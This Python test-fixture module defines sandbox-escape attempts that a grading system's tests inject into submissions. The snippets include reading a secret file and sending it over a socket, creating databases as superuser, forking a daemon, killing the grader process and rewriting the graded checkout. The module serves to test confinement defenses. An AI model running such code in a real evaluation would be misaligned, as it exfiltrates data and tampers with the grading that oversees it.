"""Submissions whose first revision tries to get out of its confinement, made from the reference solution.

Each entry puts a few lines at the start of revision 1's upgrade(): a correct
submission that also tries one thing beyond its private copy. The lines are a
template filled in by the test (str.format) with the places to aim at:
{home_file}, {tmp_file}, {secret_file}, {port} (a TCP port the test listens on),
{superuser_url}, {database} (a database name that must never exist),
{checkout} (the graded checkout) and {marker} (in a left process's command line).
`failing` and `messages` are what the grade must say; `trace` names what the test
looks for afterwards (the file, the connection, the database, the process).
"""
from dataclasses import dataclass, field
from typing import Dict, Tuple

from .hostile import LATER_THAN_2

REVISION_1 = ("create_employees", "create_department") + LATER_THAN_2  # it and everything after it

WRITE_HOME = """
try:
    open({home_file!r}, "w").write("escaped")
except OSError:
    pass  # it goes on as if nothing happened
"""
WRITE_TMP = """
open({tmp_file!r}, "w").write("escaped")
"""
READ_AND_SEND = """
import socket
try:
    secret = open({secret_file!r}, "rb").read()
except OSError:
    secret = b"(unreadable)"
with socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
    connection.sendall(secret)
"""
TCP_CONNECT = """
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
"""
SUPERUSER_DATABASE = """
import psycopg
with psycopg.connect({superuser_url!r}, autocommit=True, connect_timeout=3) as connection:
    connection.execute('CREATE DATABASE "{database}"')
"""
# Through the replay's own connection: the gate's port, as the server's superuser.
GATE_AS_SUPERUSER = """
import psycopg
url = op.get_bind().engine.url.set(username="postgres", password=None, database="postgres")
with psycopg.connect(url.render_as_string(hide_password=False).replace("+psycopg", ""), autocommit=True,
                     connect_timeout=3) as connection:
    connection.execute('CREATE DATABASE "{database}"')
"""
# As the replay's own role, which may not create databases.
DATABASE_AS_REPLAY_ROLE = """
import sqlalchemy
engine = sqlalchemy.create_engine(op.get_bind().engine.url, isolation_level="AUTOCOMMIT")
with engine.connect() as connection:
    connection.exec_driver_sql('CREATE DATABASE "{database}"')
engine.dispose()
"""
DAEMON = """
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", {marker!r}])
    os._exit(0)
os.wait()
"""
# The grading process's id is in the worker's frames; the fork server is its parent.
SIGNAL_GRADER = """
import os, signal, sys
targets, frame = {{os.getppid()}}, sys._getframe()
while frame is not None:
    if isinstance(frame.f_locals.get("grader_pid"), int):
        targets.add(frame.f_locals["grader_pid"])
    frame = frame.f_back
for target in sorted(targets):
    os.kill(target, signal.SIGKILL)
"""
WRITE_CHECKOUT = """
import pathlib
try:
    models = pathlib.Path({checkout!r}) / "server" / "models.py"
    models.write_text(models.read_text().replace("location", "address"))
except OSError:
    pass
"""


@dataclass(frozen=True)
class Escape:
    name: str
    code: str
    trace: str  # "file", "connection", "database", "process" or "checkout"
    failing: Tuple[str, ...] = REVISION_1
    messages: Dict[str, Tuple[str, ...]] = field(default_factory=dict)
    exit_code: int = 1
    backends: Tuple[str, ...] = ("sqlite", "postgresql")
    needs: Tuple[str, ...] = ("files",)  # the confinement it relies on


ESCAPES = (
    Escape("write_to_home", WRITE_HOME, "file",
           messages={"create_employees": ("tried to write", "lesson-escape")}),
    Escape("write_to_tmp", WRITE_TMP, "file", messages={"create_employees": ("tried to write", "/tmp/")}),
    Escape("read_a_secret_and_send_it", READ_AND_SEND, "connection", needs=("files", "network"),
           messages={"create_employees": ("tried to read", "lesson-escape-secret",
                                          "open a network connection to 127.0.0.1")}),
    Escape("tcp_connect", TCP_CONNECT, "connection", needs=("network",),
           messages={"create_employees": ("tried to open a network connection", "grading allows none")}),
    Escape("create_a_database_as_superuser", SUPERUSER_DATABASE, "database", needs=("network",),
           messages={"create_employees": ("OperationalError", "5432", "Permission denied")}),
    Escape("through_the_gate_as_superuser", GATE_AS_SUPERUSER, "database", backends=("postgresql",),
           needs=("network",),
           messages={"create_employees": ("grading allows a connection only to the replay's own database",
                                          "'postgres'")}),
    Escape("create_a_database_as_the_replay_role", DATABASE_AS_REPLAY_ROLE, "database", backends=("postgresql",),
           needs=(), messages={"create_employees": ("permission denied to create database",)}),
    Escape("leave_a_daemon", DAEMON, "process", failing=(), exit_code=0, needs=("processes",)),
    Escape("signal_the_grading_process", SIGNAL_GRADER, "process", needs=("processes",),
           messages={"create_employees": ("tried to send a signal to process",)}),
    Escape("write_into_the_checkout", WRITE_CHECKOUT, "checkout",
           messages={"create_employees": ("tried to", "models.py")}),
)
